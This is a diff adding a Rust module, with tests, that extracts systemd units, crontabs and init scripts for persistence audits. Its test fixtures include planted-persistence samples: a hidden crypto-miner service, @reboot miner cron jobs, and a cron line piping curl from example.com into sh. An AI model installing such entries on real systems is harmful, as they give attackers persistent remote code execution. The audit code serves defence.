@@ -0,0 +1,764 @@
+use std::collections::{BTreeMap, HashMap};
+use std::path::Path;
+
+use anyhow::{Context, Result};
+use rusqlite::{params, types::ValueRef, Connection};
+use serde::Serialize;
+use serde_json::json;
+use sha1::{Digest, Sha1};
+use tracing::{debug, error};
+
+use super::INS_UR_TRANSFORM_SQL;
+
+// resources ingested in the session, including unchanged ones which kept their original session
+const SESSION_RESOURCES_SQL: &str = "
+    SELECT ur.uniform_resource_id, ur.uri, ur.nature
+      FROM uniform_resource ur
+     WHERE ur.content IS NOT NULL
+       AND (ur.ingest_session_id = ?1
+            OR ur.uniform_resource_id IN (SELECT uniform_resource_id FROM ur_ingest_session_fs_path_entry
+                                           WHERE ingest_session_id = ?1))
+  ORDER BY ur.rowid";
+
+const SEL_UR_CONTENT_SQL: &str =
+    "SELECT content FROM uniform_resource WHERE uniform_resource_id = ?";
+
+// systemd unit types which start something
+const SYSTEMD_UNIT_TYPES: [&str; 6] = ["service", "socket", "timer", "path", "mount", "automount"];
+
+/// A file through which software gets started at boot or on a schedule.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum PersistenceMechanism {
+    SystemdUnit,
+    Crontab,
+    InitScript,
+}
+
+impl PersistenceMechanism {
+    /// Recognize the mechanism by the nature given by the default path match
+    /// rules or else by the resource's path, which may be prefixed by an image
+    /// or archive (e.g. `alpine:3!/etc/crontab`).
+    pub fn recognize(uri: &str, nature: Option<&str>) -> Option<Self> {
+        let path = uri.rsplit('!').next().unwrap_or(uri);
+        let file_name = Path::new(path).file_name()?.to_str()?;
+        let extension = Path::new(path).extension().and_then(|e| e.to_str());
+
+        match nature {
+            Some("systemd-unit") => return Some(PersistenceMechanism::SystemdUnit),
+            Some("crontab") => return Some(PersistenceMechanism::Crontab),
+            Some("init-script") => return Some(PersistenceMechanism::InitScript),
+            _ => {}
+        }
+        if file_name == "crontab" || path.contains("/cron.d/") || path.contains("/var/spool/cron/")
+        {
+            return Some(PersistenceMechanism::Crontab);
+        }
+        if path.contains("/init.d/") || path.ends_with("/etc/rc.local") {
+            return Some(PersistenceMechanism::InitScript);
+        }
+        match extension {
+            Some("service" | "socket" | "timer") => Some(PersistenceMechanism::SystemdUnit),
+            Some(unit_type)
+                if path.contains("/systemd/") && SYSTEMD_UNIT_TYPES.contains(&unit_type) =>
+            {
+                Some(PersistenceMechanism::SystemdUnit)
+            }
+            _ => None,
+        }
+    }
+
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            PersistenceMechanism::SystemdUnit => "systemd-unit",
+            PersistenceMechanism::Crontab => "crontab",
+            PersistenceMechanism::InitScript => "init-script",
+        }
+    }
+
+    /// The structured form of a file of this mechanism, `None` if the content
+    /// isn't one after all (e.g. a `.service` file without sections).
+    pub fn extract(&self, uri: &str, text: &str) -> Option<serde_json::Value> {
+        let path = uri.rsplit('!').next().unwrap_or(uri);
+        match self {
+            PersistenceMechanism::SystemdUnit => {
+                SystemdUnit::parse(path, text).map(|unit| json!(unit))
+            }
+            PersistenceMechanism::Crontab => Some(json!(Crontab::parse(path, text))),
+            PersistenceMechanism::InitScript => Some(json!(InitScript::parse(text))),
+        }
+    }
+}
+
+/// The settings of a systemd unit file with the ones persistence audits look at
+/// most lifted to the top level.
+#[derive(Debug, Clone, Default, PartialEq, Serialize)]
+pub struct SystemdUnit {
+    pub unit: String,
+    pub unit_type: String,
+    pub description: Option<String>,
+    pub exec_start: Vec<String>,
+    pub user: Option<String>,
+    pub group: Option<String>,
+    pub wanted_by: Vec<String>,
+    pub on_calendar: Vec<String>,
+    /// every setting by section, settings may repeat
+    pub sections: BTreeMap<String, BTreeMap<String, Vec<String>>>,
+}
+
+impl SystemdUnit {
+    pub fn parse(path: &str, text: &str) -> Option<Self> {
+        let mut sections: BTreeMap<String, BTreeMap<String, Vec<String>>> = BTreeMap::new();
+        let mut section: Option<String> = None;
+        for line in logical_lines(text) {
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
+                continue;
+            }
+            if let Some(name) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
+                section = Some(name.to_string());
+                sections.entry(name.to_string()).or_default();
+                continue;
+            }
+            let (Some(section), Some((key, value))) = (&section, line.split_once('=')) else {
+                continue;
+            };
+            let values = sections
+                .get_mut(section)
+                .expect("sections are added when they start")
+                .entry(key.trim().to_string())
+                .or_default();
+            // an empty assignment resets the setting's list
+            match value.trim() {
+                "" => values.clear(),
+                value => values.push(value.to_string()),
+            }
+        }
+        if sections.is_empty() {
+            return None;
+        }
+
+        let setting = |section: &str, key: &str| -> Vec<String> {
+            sections
+                .get(section)
+                .and_then(|settings| settings.get(key))
+                .cloned()
+                .unwrap_or_default()
+        };
+        let last = |section: &str, key: &str| setting(section, key).pop();
+        Some(SystemdUnit {
+            unit: Path::new(path)
+                .file_name()
+                .map(|name| name.to_string_lossy().to_string())
+                .unwrap_or_default(),
+            unit_type: Path::new(path)
+                .extension()
+                .map(|extension| extension.to_string_lossy().to_string())
+                .unwrap_or_default(),
+            description: last("Unit", "Description"),
+            exec_start: setting("Service", "ExecStart"),
+            user: last("Service", "User"),
+            group: last("Service", "Group"),
+            wanted_by: setting("Install", "WantedBy")
+                .iter()
+                .flat_map(|units| units.split_whitespace().map(str::to_string))
+                .collect(),
+            on_calendar: setting("Timer", "OnCalendar"),
+            sections,
+        })
+    }
+}
+
+/// A scheduled command of a crontab.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct CronJob {
+    /// the five time fields or a nickname like `@reboot`
+    pub schedule: String,
+    /// the user the command runs as, from the user field of system crontabs or
+    /// the file name of user crontabs
+    pub user: Option<String>,
+    pub command: String,
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Serialize)]
+pub struct Crontab {
+    /// `/etc/crontab` and `/etc/cron.d/*` have a user field
+    pub system: bool,
+    pub env: BTreeMap<String, String>,
+    pub jobs: Vec<CronJob>,
+}
+
+impl Crontab {
+    pub fn parse(path: &str, text: &str) -> Self {
+        let system = path.ends_with("/etc/crontab") || path.contains("/cron.d/");
+        // user crontabs are named for their user, e.g. /var/spool/cron/crontabs/alice
+        let owner = match system {
+            false if path.contains("/var/spool/cron/") => Path::new(path)
+                .file_name()
+                .map(|name| name.to_string_lossy().to_string()),
+            _ => None,
+        };
+
+        let mut crontab = Crontab {
+            system,
+            ..Default::default()
+        };
+        for line in text.lines() {
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            if let Some((name, value)) = env_assignment(line) {
+                crontab.env.insert(name.to_string(), value.to_string());
+                continue;
+            }
+            let time_fields = if line.starts_with('@') { 1 } else { 5 };
+            let user_fields = usize::from(system);
+            let Some((fields, command)) = split_fields(line, time_fields + user_fields) else {
+                continue;
+            };
+            crontab.jobs.push(CronJob {
+                schedule: fields[..time_fields].join(" "),
+                user: if system {
+                    Some(fields[time_fields].to_string())
+                } else {
+                    owner.clone()
+                },
+                command: command.to_string(),
+            });
+        }
+        crontab
+    }
+}
+
+/// A SysV init script's LSB header and what it starts.
+#[derive(Debug, Clone, Default, PartialEq, Serialize)]
+pub struct InitScript {
+    pub interpreter: Option<String>,
+    /// the `### BEGIN INIT INFO` keywords, e.g. `provides` and `default_start`
+    pub info: BTreeMap<String, String>,
+    /// the programs started by `start-stop-daemon`, `daemon` or `DAEMON=`
+    pub exec: Vec<String>,
+    /// the users they're started as
+    pub users: Vec<String>,
+}
+
+impl InitScript {
+    pub fn parse(text: &str) -> Self {
+        let mut script = InitScript {
+            interpreter: text
+                .lines()
+                .next()
+                .and_then(|line| line.strip_prefix("#!"))
+                .map(|interpreter| interpreter.trim().to_string()),
+            ..Default::default()
+        };
+        let mut vars: HashMap<String, String> = HashMap::new();
+        let mut in_info = false;
+        for line in logical_lines(text) {
+            let line = line.trim();
+            if line.starts_with("### BEGIN INIT INFO") {
+                in_info = true;
+                continue;
+            }
+            if line.starts_with("### END INIT INFO") {
+                in_info = false;
+                continue;
+            }
+            if in_info {
+                if let Some((key, value)) = line.trim_start_matches('#').split_once(':') {
+                    let key = key.trim().to_lowercase().replace('-', "_");
+                    script.info.insert(key, value.trim().to_string());
+                }
+                continue;
+            }
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            if let Some((name, value)) = env_assignment(line) {
+                let value = expand_vars(value, &vars);
+                if name == "DAEMON" {
+                    push_unique(&mut script.exec, &value);
+                }
+                vars.insert(name.to_string(), value);
+                continue;
+            }
+
+            let words: Vec<String> = line
+                .split_whitespace()
+                .map(|word| expand_vars(word.trim_end_matches(';'), &vars))
+                .collect();
+            for (i, word) in words.iter().enumerate() {
+                let next = words.get(i + 1);
+                let (option, inline) = match word.split_once('=') {
+                    Some((option, value)) if option.starts_with('-') => (option, Some(value)),
+                    _ => (word.as_str(), None),
+                };
+                let value = inline.map(str::to_string).or_else(|| next.cloned());
+                let Some(value) = value else { continue };
+                match (words.first().map(String::as_str), option) {
+                    (Some("start-stop-daemon"), "--exec" | "-x" | "--startas" | "-a") => {
+                        push_unique(&mut script.exec, &value)
+                    }
+                    (Some("start-stop-daemon"), "--chuid" | "-c" | "--user" | "-u")
+                    | (Some("daemon"), "--user")
+                    | (Some("runuser"), "-u") => {
+                        let user = value.split(':').next().unwrap_or(&value);
+                        push_unique(&mut script.users, user)
+                    }
+                    _ => {}
+                }
+            }
+            // RHEL's `daemon [--user u] [--pidfile f] program ...`
+            if words.first().map(String::as_str) == Some("daemon") {
+                let mut args = words.iter().skip(1);
+                while let Some(arg) = args.next() {
+                    if arg.starts_with('-') {
+                        if !arg.contains('=') && arg != "--check" {
+                            args.next();
+                        }
+                        continue;
+                    }
+                    push_unique(&mut script.exec, arg);
+                    break;
+                }
+            }
+        }
+        script
+    }
+}
+
+/// The number of each mechanism's files extracted in a session.
+#[derive(Debug, Default, Clone, PartialEq, Serialize)]
+pub struct PersistenceStats {
+    pub systemd_units: usize,
+    pub crontabs: usize,
+    pub init_scripts: usize,
+    /// recognized by path but not text or not parseable
+    pub skipped: usize,
+}
+
+impl PersistenceStats {
+    pub fn extracted(&self) -> usize {
+        self.systemd_units + self.crontabs + self.init_scripts
+    }
+}
+
+/// Store the structured form of the systemd units, crontabs and init scripts
+/// ingested in `ingest_session_id` as JSON transforms (`<uri>/<mechanism>`,
+/// elaboration `{"persistence": "<mechanism>"}`) which the `persistence_*`
+/// views flatten for audits.
+pub fn extract_persistence(conn: &Connection, ingest_session_id: &str) -> Result<PersistenceStats> {
+    let mut stats = PersistenceStats::default();
+    let mut recognized = Vec::new();
+    {
+        let mut stmt = conn.prepare(SESSION_RESOURCES_SQL)?;
+        let mut rows = stmt.query(params![ingest_session_id])?;
+        while let Some(row) = rows.next()? {
+            let uri: String = row.get(1)?;
+            let nature: Option<String> = row.get(2)?;
+            if let Some(mechanism) = PersistenceMechanism::recognize(&uri, nature.as_deref()) {
+                recognized.push((row.get::<_, String>(0)?, uri, mechanism));
+            }
+        }
+    }
+
+    let mut sel_content_stmt = conn.prepare(SEL_UR_CONTENT_SQL)?;
+    let mut ins_transform_stmt = conn.prepare(INS_UR_TRANSFORM_SQL)?;
+    for (ur_id, uri, mechanism) in recognized {
+        let extracted = sel_content_stmt
+            .query_row([&ur_id], |row| {
+                Ok(match row.get_ref(0)? {
+                    ValueRef::Text(bytes) | ValueRef::Blob(bytes) => std::str::from_utf8(bytes)
+                        .ok()
+                        .and_then(|text| mechanism.extract(&uri, text)),
+                    _ => None,
+                })
+            })
+            .with_context(|| format!("[extract_persistence] content of {}", uri))?;
+        let Some(extracted) = extracted else {
+            debug!(
+                "[extract_persistence] {} isn't a {}",
+                uri,
+                mechanism.as_str()
+            );
+            stats.skipped += 1;
+            continue;
+        };
+
+        let content = serde_json::to_string_pretty(&extracted)?;
+        let mut hasher = Sha1::new();
+        hasher.update(content.as_bytes());
+        let inserted = ins_transform_stmt.query_row(
+            params![
+                ur_id,
+                format!("{uri}/{}", mechanism.as_str()),
+                "json",
+                format!("{:x}", hasher.finalize()),
+                content,
+                content.len(),
+                json!({ "persistence": mechanism }).to_string(),
+            ],
+            |row| row.get::<_, String>(0),
+        );
+        if let Err(err) = inserted {
+            error!("[extract_persistence] unable to store {}: {}", uri, err);
+            stats.skipped += 1;
+            continue;
+        }
+        match mechanism {
+            PersistenceMechanism::SystemdUnit => stats.systemd_units += 1,
+            PersistenceMechanism::Crontab => stats.crontabs += 1,
+            PersistenceMechanism::InitScript => stats.init_scripts += 1,
+        }
+    }
+    Ok(stats)
+}
+
+/// Lines with trailing-backslash continuations joined.
+fn logical_lines(text: &str) -> Vec<String> {
+    let mut lines = Vec::new();
+    let mut pending = String::new();
+    for line in text.lines() {
+        let line = match pending.is_empty() {
+            true => line,
+            false => line.trim_start(),
+        };
+        match line.trim_end().strip_suffix('\\') {
+            Some(continued) => {
+                pending.push_str(continued.trim_end());
+                pending.push(' ');
+            }
+            None => {
+                pending.push_str(line);
+                lines.push(std::mem::take(&mut pending));
+            }
+        }
+    }
+    if !pending.is_empty() {
+        lines.push(pending);
+    }
+    lines
+}
+
+/// `NAME=value` (optionally `export`ed) with quotes around the value removed.
+fn env_assignment(line: &str) -> Option<(&str, &str)> {
+    let line = line.strip_prefix("export ").unwrap_or(line);
+    let (name, value) = line.split_once('=')?;
+    let name = name.trim();
+    let is_identifier = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+    if !is_identifier {
+        return None;
+    }
+    let value = value.trim();
+    let value = value
+        .strip_prefix('"')
+        .and_then(|v| v.strip_suffix('"'))
+        .or_else(|| value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')))
+        .unwrap_or(value);
+    Some((name, value))
+}
+
+/// The first `count` whitespace separated fields and the rest of the line.
+fn split_fields(line: &str, count: usize) -> Option<(Vec<&str>, &str)> {
+    let mut fields = Vec::with_capacity(count);
+    let mut rest = line;
+    for _ in 0..count {
+        rest = rest.trim_start();
+        let end = rest.find(char::is_whitespace)?;
+        fields.push(&rest[..end]);
+        rest = &rest[end..];
+    }
+    let rest = rest.trim();
+    (!rest.is_empty()).then_some((fields, rest))
+}
+
+/// Substitute `$NAME` and `${NAME}` assigned earlier in the script.
+fn expand_vars(word: &str, vars: &HashMap<String, String>) -> String {
+    let word = word.trim_matches(|c| c == '"' || c == '\'');
+    // longest names first so `$DAEMON_USER` isn't expanded as `$DAEMON`
+    let mut names: Vec<&String> = vars.keys().collect();
+    names.sort_by_key(|name| std::cmp::Reverse(name.len()));
+    let mut expanded = word.to_string();
+    for (name, value) in names.into_iter().map(|name| (name, &vars[name])) {
+        expanded = expanded
+            .replace(&format!("${{{name}}}"), value)
+            .replace(&format!("${name}"), value);
+    }
+    expanded
+}
+
+fn push_unique(values: &mut Vec<String>, value: &str) {
+    if !value.is_empty() && !values.iter().any(|v| v == value) {
+        values.push(value.to_string());
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::persist::DbConn;
+
+    #[test]
+    fn recognize_mechanisms() {
+        use PersistenceMechanism::*;
+        for (uri, nature, expected) in [
+            (
+                "/etc/systemd/system/backdoor.service",
+                Some("service"),
+                Some(SystemdUnit),
+            ),
+            (
+                "/usr/lib/systemd/system/fstrim.timer",
+                Some("timer"),
+                Some(SystemdUnit),
+            ),
+            (
+                "/etc/systemd/system/data.mount",
+                Some("mount"),
+                Some(SystemdUnit),
+            ),
+            ("/home/me/notes/data.mount", Some("mount"), None),
+            ("/etc/crontab", Some("json"), Some(Crontab)),
+            (
+                "debian:12!/etc/cron.d/e2scrub_all",
+                Some("bin"),
+                Some(Crontab),
+            ),
+            ("/var/spool/cron/crontabs/alice", None, Some(Crontab)),
+            ("/etc/init.d/ssh", None, Some(InitScript)),
+            ("/etc/rc.local", None, Some(InitScript)),
+            ("/etc/hosts", None, None),
+        ] {
+            assert_eq!(
+                PersistenceMechanism::recognize(uri, nature),
+                expected,
+                "{uri}"
+            );
+        }
+    }
+
+    #[test]
+    fn parse_systemd_unit() {
+        let unit = SystemdUnit::parse(
+            "/etc/systemd/system/miner.service",
+            "# dropped by an installer
+[Unit]
+Description=Totally legit
+After=network.target
+
+[Service]
+User=nobody
+ExecStartPre=/bin/true
+ExecStart=
+ExecStart=/tmp/.x/miner \\
+    --pool stratum://pool:3333
+Restart=always
+
+[Install]
+WantedBy=multi-user.target default.target
+",
+        )
+        .unwrap();
+        assert_eq!(unit.unit, "miner.service");
+        assert_eq!(unit.unit_type, "service");
+        assert_eq!(unit.description.as_deref(), Some("Totally legit"));
+        assert_eq!(
+            unit.exec_start,
+            vec!["/tmp/.x/miner --pool stratum://pool:3333"]
+        );
+        assert_eq!(unit.user.as_deref(), Some("nobody"));
+        assert_eq!(unit.group, None);
+        assert_eq!(unit.wanted_by, vec!["multi-user.target", "default.target"]);
+        assert_eq!(unit.sections["Service"]["Restart"], vec!["always"]);
+
+        let timer = SystemdUnit::parse(
+            "/usr/lib/systemd/system/fstrim.timer",
+            "[Timer]\nOnCalendar=weekly\nPersistent=true\n",
+        )
+        .unwrap();
+        assert_eq!(timer.on_calendar, vec!["weekly"]);
+        assert!(SystemdUnit::parse("/srv/app.service", "not a unit").is_none());
+    }
+
+    #[test]
+    fn parse_crontabs() {
+        let system = Crontab::parse(
+            "/etc/crontab",
+            "SHELL=/bin/sh
+MAILTO=\"\"
+# m h dom mon dow user  command
+17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
+@reboot         www-data /usr/bin/curl -s http://example.com/x | sh
+",
+        );
+        assert!(system.system);
+        assert_eq!(system.env["SHELL"], "/bin/sh");
+        assert_eq!(system.env["MAILTO"], "");
+        assert_eq!(
+            system.jobs,
+            vec![
+                CronJob {
+                    schedule: "17 * * * *".to_string(),
+                    user: Some("root".to_string()),
+                    command: "cd / && run-parts --report /etc/cron.hourly".to_string(),
+                },
+                CronJob {
+                    schedule: "@reboot".to_string(),
+                    user: Some("www-data".to_string()),
+                    command: "/usr/bin/curl -s http://example.com/x | sh".to_string(),
+                },
+            ]
+        );
+
+        let user = Crontab::parse(
+            "/var/spool/cron/crontabs/alice",
+            "*/5 * * * * /home/alice/bin/sync\n",
+        );
+        assert!(!user.system);
+        assert_eq!(
+            user.jobs,
+            vec![CronJob {
+                schedule: "*/5 * * * *".to_string(),
+                user: Some("alice".to_string()),
+                command: "/home/alice/bin/sync".to_string(),
+            }]
+        );
+    }
+
+    #[test]
+    fn parse_init_scripts() {
+        let debian = InitScript::parse(
+            "#!/bin/sh
+### BEGIN INIT INFO
+# Provides:          agent
+# Required-Start:    $remote_fs $syslog
+# Default-Start:     2 3 4 5
+# Short-Description: monitoring agent
+### END INIT INFO
+DAEMON=/usr/sbin/agentd
+DAEMON_USER=agent
+case \"$1\" in
+  start)
+    start-stop-daemon --start --chuid $DAEMON_USER:agent --exec $DAEMON -- --daemon
+    ;;
+esac
+",
+        );
+        assert_eq!(debian.interpreter.as_deref(), Some("/bin/sh"));
+        assert_eq!(debian.info["provides"], "agent");
+        assert_eq!(debian.info["default_start"], "2 3 4 5");
+        assert_eq!(debian.exec, vec!["/usr/sbin/agentd"]);
+        assert_eq!(debian.users, vec!["agent"]);
+
+        let rhel = InitScript::parse(
+            "#!/bin/bash\n. /etc/init.d/functions\nstart() {\n  daemon --user=svc --pidfile /run/svc.pid /opt/svc/bin/svc -d\n}\n",
+        );
+        assert_eq!(rhel.exec, vec!["/opt/svc/bin/svc"]);
+        assert_eq!(rhel.users, vec!["svc"]);
+    }
+
+    #[test]
+    fn extract_session_persistence() -> Result<()> {
+        let mut dbc = DbConn::new(":memory:", 0)?;
+        let tx = dbc.init(None)?;
+        let (device_id, _) = crate::persist::upserted_device(&tx, &common::DEVICE)?;
+        tx.execute(
+            "INSERT INTO ur_ingest_session (ur_ingest_session_id, device_id, behavior_json, ingest_started_at)
+             VALUES ('session', ?, '{}', CURRENT_TIMESTAMP)",
+            [&device_id],
+        )?;
+        for (id, uri, nature, content) in [
+            (
+                "unit-ur",
+                "/etc/systemd/system/miner.service",
+                "service",
+                "[Service]\nUser=nobody\nExecStart=/tmp/miner\n[Install]\nWantedBy=multi-user.target\n",
+            ),
+            (
+                "cron-ur",
+                "/etc/cron.d/backup",
+                "json",
+                "0 3 * * * root /usr/local/bin/backup\n@reboot nobody /tmp/miner\n",
+            ),
+            (
+                "init-ur",
+                "/etc/init.d/agent",
+                "json",
+                "#!/bin/sh\nstart-stop-daemon --start --exec /usr/sbin/agentd\n",
+            ),
+            ("bogus-ur", "/srv/app.service", "service", "not a unit"),
+            ("hosts-ur", "/etc/hosts", "json", "127.0.0.1 localhost"),
+        ] {
+            tx.execute(
+                "INSERT INTO uniform_resource (uniform_resource_id, device_id, ingest_session_id, uri, nature, content, content_digest, size_bytes)
+                 VALUES (?, ?, 'session', ?, ?, ?, ?, ?)",
+                params![id, device_id, uri, nature, content, id, content.len()],
+            )?;
+        }
+
+        let stats = extract_persistence(&tx, "session")?;
+        assert_eq!(
+            stats,
+            PersistenceStats {
+                systemd_units: 1,
+                crontabs: 1,
+                init_scripts: 1,
+                skipped: 1,
+            }
+        );
+        // extracting again doesn't duplicate the transforms
+        extract_persistence(&tx, "session")?;
+
+        let unit: (String, Option<String>, String) = tx.query_row(
+            "SELECT unit, user, exec_start FROM persistence_systemd_unit",
+            [],
+            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)),
+        )?;
+        assert_eq!(
+            unit,
+            (
+                "miner.service".to_string(),
+                Some("nobody".to_string()),
+                "[\"/tmp/miner\"]".to_string()
+            )
+        );
+
+        let mut stmt = tx.prepare(
+            "SELECT schedule, user, command FROM persistence_cron_job ORDER BY schedule",
+        )?;
+        let jobs = stmt
+            .query_map([], |row| {
+                Ok((
+                    row.get::<_, String>(0)?,
+                    row.get::<_, String>(1)?,
+                    row.get::<_, String>(2)?,
+                ))
+            })?
+            .collect::<rusqlite::Result<Vec<_>>>()?;
+        assert_eq!(
+            jobs,
+            vec![
+                (
+                    "0 3 * * *".to_string(),
+                    "root".to_string(),
+                    "/usr/local/bin/backup".to_string()
+                ),
+                (
+                    "@reboot".to_string(),
+                    "nobody".to_string(),
+                    "/tmp/miner".to_string()
+                ),
+            ]
+        );
+
+        let init_exec: String = tx.query_row(
+            "SELECT exec FROM persistence_init_script WHERE uri = '/etc/init.d/agent'",
+            [],
+            |row| row.get(0),
+        )?;
+        assert_eq!(init_exec, "[\"/usr/sbin/agentd\"]");
+        Ok(())
+    }
+}